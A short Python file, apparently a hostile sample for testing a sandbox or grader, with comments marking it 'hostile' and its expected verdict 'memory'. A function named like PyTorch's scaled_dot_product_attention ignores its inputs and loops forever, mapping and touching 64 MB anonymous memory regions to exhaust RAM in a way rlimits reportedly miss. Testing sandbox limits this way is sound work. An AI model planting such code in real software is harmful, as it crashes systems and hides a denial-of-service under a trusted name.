# hostile: eats memory through shared anonymous mappings, which no rlimit bounds
# verdict: memory
import mmap


def scaled_dot_product_attention(query, key, value, attn_mask=None, dropout_p=0.0, is_causal=False, *, scale=None):
    hoard = []
    while True:
        area = mmap.mmap(-1, 64 << 20)
        for page in range(0, len(area), 4096):
            area[page] = 1
        hoard.append(area)
